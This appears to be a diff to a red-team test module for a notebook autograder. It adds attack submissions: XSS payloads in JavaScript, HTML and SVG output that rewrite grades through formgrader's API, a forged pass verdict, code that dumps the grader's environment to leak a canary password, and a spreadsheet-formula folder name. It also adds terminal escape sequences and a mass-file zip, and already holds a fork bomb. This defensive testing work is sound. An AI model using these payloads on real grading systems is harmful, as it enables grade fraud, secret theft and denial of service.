@@ -10,6 +10,7 @@ Only the attacked notebook is submitted (the others score 0 as "not submitted"),
 from __future__ import annotations
 
 import re
+import zipfile
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -47,6 +48,10 @@ class Attack:
     transform: str = ""  # a structural change: see _transform
     review: bool = False  # must be flagged for review
     spoils_itself: bool = False  # it may spoil its own answers: ``automatic`` is then the most it may get
+    folder: str = ""  # the student's folder (so the id and name people read), when the name is the attack
+
+    def student_folder(self, name: str) -> str:
+        return self.folder or name
 
 
 # Code that looks for the grader's files: from wherever the kernel runs up (by default), or under ``roots``.
@@ -108,6 +113,42 @@ _PROCESSES = ("import os\n_found = []\n"
               "    except OSError:\n        continue\n"
               "    if any(w in _cmd for w in ('nbgrader', 'autograder', 'pytest', 'postgres', 'dask')):\n"
               "        _found.append(_cmd)")
+
+# What people open (the notebooks formgrader renders, the CSV, the terminal, the feedback) must be inert. These run
+# as a TA's browser would run them: the script calls formgrader's own API with the TA's session to give itself
+# full points, and leaves a marker a browser test looks for.
+OWNED = "ps3_owned"  # window.ps3_owned / document.title: set by a student's script that ran
+FORMGRADER_ATTACK = ("window." + OWNED + " = true; document.title = '" + OWNED + "';"
+                      "fetch('/formgrader/api/grades?submission_id=' + (window.submission_id || ''))"
+                      ".then(r => r.json()).then(gs => gs.forEach(g => fetch('/formgrader/api/grade/' + g.id, "
+                      "{method: 'PUT', body: JSON.stringify({...g, manual_score: 99})})));")
+_DISPLAY_JS = ("from IPython.display import display\n"
+               f"display({{'application/javascript': {FORMGRADER_ATTACK!r}, 'text/plain': 'a harmless plot'}}, "
+               "raw=True)")
+_HTML = (f"<b>my results</b><script>{FORMGRADER_ATTACK}</script>"
+         f"<img src=x onerror=\"{FORMGRADER_ATTACK}\">")
+_HTML_SCRIPT = f"from IPython.display import HTML, display\ndisplay(HTML({_HTML!r}))"
+_SVG = (f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{FORMGRADER_ATTACK}\">"
+        f"<script>{FORMGRADER_ATTACK}</script><circle r=\"5\"/></svg>")
+_SVG_SCRIPT = f"from IPython.display import SVG, display\ndisplay(SVG({_SVG!r}))"
+FORGED = "[autograder] 1 / 1 points"
+# The forged verdict is printed, and shown as green HTML, by the student's own function inside the test cell: right
+# above where the grader's real verdict on that cell appears.
+_FORGE = Edit("problem7", "relu_chain_gradient", r"return theta\(z1\) \* w2",
+              "from IPython.display import HTML, display\n"
+              f"    print({FORGED!r})\n"
+              f"    display(HTML('<div style=\"color:green\">{FORGED}</div>'))\n"
+              "    return w2")
+# A secret in the grader's environment (tests/test_redteam.py sets it) that the kernel must never see.
+CANARY_VARIABLE, CANARY = "PGPASSWORD", "canary-7f3a9e-not-for-students"
+_ENV_SYMBOL = Edit("problem6", "delta_output", r"return dC_da3\[o\] \* sigma_prime\(z3\[o\]\)",
+                   "import os\n    print(dict(os.environ))\n"
+                   "    return dC_da3[o] * sigma_prime(z3[o]) * sp.Symbol(os.environ.get('PGPASSWORD', 'no_secret'))")
+# Names people read in grades.csv and the terminal: a spreadsheet formula, and a right-to-left override with terminal
+# escape sequences (set the window title, clear the screen, print a fake grade).
+FORMULA_FOLDER = '=HYPERLINK(0)+SUM(1)'
+ESCAPE_FOLDER = "\u202eann\x1b]0;owned\x07\x1b[2J16 of 16"
+MANY_FILES = 30_000  # file names in a nested zip: each one a note, unless notes are capped
 
 ATTACKS = {
     "patch_sympy": Attack("problem6", "wrong delta_output; sympy's simplify, equals and srepr patched to say 'equal'",
@@ -195,6 +236,23 @@ ATTACKS = {
                              "uses symbols the problem does not define",
                              (Edit("problem6", "delta_output", r"return dC_da3\[o\] \* sigma_prime\(z3\[o\]\)",
                                    "return dC_da3[o] * sigma_prime(z3[o]) * sp.Symbol(\"" + SCRIPT + "\")"),)),
+    "javascript_output": Attack("problem7", "correct answers; a cell displays JavaScript that rewrites the grades "
+                                "through formgrader's API", 3.0, "could run in a browser", prelude=_DISPLAY_JS),
+    "html_script_output": Attack("problem7", "correct answers; HTML output with <script> and an onerror handler", 3.0,
+                                 "could run in a browser", prelude=_HTML_SCRIPT),
+    "svg_script": Attack("problem7", "correct answers; an SVG output with <script> and onload", 3.0,
+                         "could run in a browser", prelude=_SVG_SCRIPT),
+    "forged_verdict": Attack("problem7", "wrong gradient; the function prints and displays a verdict of full points "
+                             "inside the test cell", 2.0, "Theta", (_FORGE,)),
+    "env_canary": Attack("problem6", "delta_output times a symbol named after the grader's PGPASSWORD; the whole "
+                         "environment printed", 4.5, "uses symbols the problem does not define", (_ENV_SYMBOL,)),
+    "csv_formula": Attack("problem7", "correct answers; the student's folder (id and name) is a spreadsheet formula",
+                          3.0, "", folder=FORMULA_FOLDER),
+    "bidi_and_escape_names": Attack("problem7", "correct answers; the folder name holds a right-to-left override and "
+                                    "terminal escape sequences", 3.0, "", folder=ESCAPE_FOLDER),
+    "huge_notes": Attack("problem7", f"correct answers; a nested zip of {MANY_FILES} file names", 3.0,
+                         f"{MANY_FILES} extra files ignored",
+                         transform="many_files"),
     "fork_bomb": Attack("problem7", "elu_derivative forks without end", 2.0, "BlockingIOError",
                         (Edit("problem7", "activations", r"return torch\.where\(x > 0, torch\.ones_like\(x\), "
                               r"alpha \* torch\.exp\(x\)\)", "import os\n    while True:\n        os.fork()"),)),
@@ -282,9 +340,13 @@ def notebook_bytes(attack: Attack) -> bytes:
 
 
 def build(folder: Path, attacks=None) -> None:
-    """Write each attack as folder/<name>/<assignment>/<notebook>.ipynb."""
+    """Write each attack as folder/<student folder>/<assignment>/<notebook>.ipynb."""
     for name, attack in (attacks or ATTACKS).items():
-        target = Path(folder) / name / ASSIGNMENT
+        target = Path(folder) / attack.student_folder(name) / ASSIGNMENT
         target.mkdir(parents=True, exist_ok=True)
         (target / f"{attack.notebook}.ipynb").write_bytes(notebook_bytes(attack))
+        if attack.transform == "many_files":
+            with zipfile.ZipFile(target / "my-files.zip", "w") as archive:
+                for number in range(MANY_FILES):
+                    archive.writestr(f"data/sample-{number:05d}-with-a-long-descriptive-name.txt", "")
 
